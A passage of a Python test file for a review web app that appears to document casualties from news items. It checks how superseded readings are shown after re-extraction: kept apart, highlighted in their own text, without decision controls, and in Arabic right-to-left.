                    if t.candidate.raw_item.kind == "news" and t.candidate.full_name and t.candidate.incident_report_id)
        candidate, raw = task.candidate, task.candidate.raw_item
        old_text = f"An older cleaning of the page: {candidate.full_name} was killed by shelling."
        new_text, raw.text, raw.extractor_version = raw.text, old_text, "1.1.0"
        for row in (*raw.candidates, *session.scalars(select(IncidentReport).where(IncidentReport.raw_item_id == raw.id))):
            row.extractor_version = "1.1.0"
        candidate.age = 77
        old_task, raw_id, name = task.id, raw.id, candidate.full_name
    assert pipeline.reextract(engine, item_ids=[raw_id]).reread == 1
    with session_scope(engine) as session:
        new_task = session.scalar(select(ReviewTask.id).join(Candidate, Candidate.id == ReviewTask.candidate_id)
                                  .where(Candidate.raw_item_id == raw_id, Candidate.full_name == name,
                                         ReviewTask.state == "open"))
    assert new_task is not None and new_text
    return old_task, new_task, old_text, new_text


def section(page: str, element_id: str) -> str:
    """The HTML of the <section> with ``element_id``."""
    start = page.index(f'id="{element_id}"')
    return page[start:page.index("</section>", start)]


def test_a_reading_replaced_by_reextract_shows_apart_with_its_own_text_and_nothing_to_decide(app, engine) -> None:
    old_task, new_task, old_text, new_text = reread_with_old_text(engine)
    amal = login(app, "amal")
    # The reading in force: its decisions first, then the superseded reading, with the version
    # that read it, its age of 77, and its own text with the name highlighted in it.
    page = amal.get(f"/item/{new_task}").text
    assert f'action="/item/{new_task}/decide"' in page and page.index('id="new"') < page.index('id="superseded"')
    old = section(page, "superseded")
    assert "superseded by a newer reading" in old and "news 1.1.0" in old and "<td>77</td>" in old
    assert "/decide" not in old and "<button" not in old
    assert "An older cleaning of the page" in old and '<mark class="name">' in old
    assert new_text.strip()[-60:] not in old  # never highlighted against the item's newer text
    # The old reading's own page: marked superseded, pointing to the reading in force, and
    # nothing to act on.
    page = amal.get(f"/item/{old_task}").text
    assert 'id="superseded-badge"' in page and f'href="/item/{new_task}"' in page
    assert "/decide" not in page and 'id="correct"' not in page and f'action="/item/{old_task}/take"' not in page
    assert "this report" in section(page, "superseded")
    # In Arabic, right to left as the rest of the app.
    amal.get("/lang/ar")
    page = amal.get(f"/item/{new_task}").text
    assert 'dir="rtl"' in page and "استُبدلت بقراءة أحدث" in page and "النص الذي قُرئت منه هذه القراءة" in page


def test_a_superseded_reading_whose_text_was_not_kept_is_not_highlighted(app, engine) -> None:
    """A reading replaced before the text was kept (its audit entry does not say whether the
    text changed): its rows are shown, no text is highlighted for it, and the page says why."""
    _old_task, new_task, _old_text, _new_text = reread_with_old_text(engine)
    with session_scope(engine) as session:
        entry = session.scalar(select(AuditLog).where(AuditLog.action == "raw_item.reextract"))
        entry.details = {k: v for k, v in entry.details.items() if k not in ("text_changed", "text_before")}
    old = section(login(app, "amal").get(f"/item/{new_task}").text, "superseded")
    assert "<td>77</td>" in old and "was not kept" in old
    assert "<mark" not in old and "An older cleaning of the page" not in old


def superseded_incident_task(engine, old_task: int) -> int:  # type: ignore[no-untyped-def]
    """The incident-queue task of the report the old reading of ``old_task``'s item gave."""
    from tawthiq.db.models import IncidentTask

    with session_scope(engine) as session:
        report_id = session.get(ReviewTask, old_task).candidate.incident_report_id
        return session.scalar(select(IncidentTask.id).where(IncidentTask.report_id == report_id))


def test_a_superseded_incident_report_is_highlighted_in_its_own_text(app, engine) -> None:
    old_task, _new_task, _old_text, new_text = reread_with_old_text(engine)
    task_id = superseded_incident_task(engine, old_task)
    page = login(app, "amal").get(f"/incidents/{task_id}").text
    text = page[page.index('id="source-text"'):page.index("</section>", page.index('id="source-text"'))]
    assert 'id="superseded-note"' in page and "superseded by a newer reading" in page
    assert "An older cleaning of the page" in text and '<mark class="name">' in text
    assert new_text.strip()[-60:] not in text
    assert 'id="decide"' not in page


def test_a_superseded_incident_report_whose_text_was_not_kept_is_not_highlighted(app, engine) -> None:
    old_task, _new_task, _old_text, _new_text = reread_with_old_text(engine)
    with session_scope(engine) as session:
        entry = session.scalar(select(AuditLog).where(AuditLog.action == "raw_item.reextract"))
        entry.details = {k: v for k, v in entry.details.items() if k not in ("text_changed", "text_before")}
    page = login(app, "amal").get(f"/incidents/{superseded_incident_task(engine, old_task)}").text
    text = page[page.index('id="source-text"'):page.index("</section>", page.index('id="source-text"'))]
    assert "was not kept" in page and "<mark" not in text
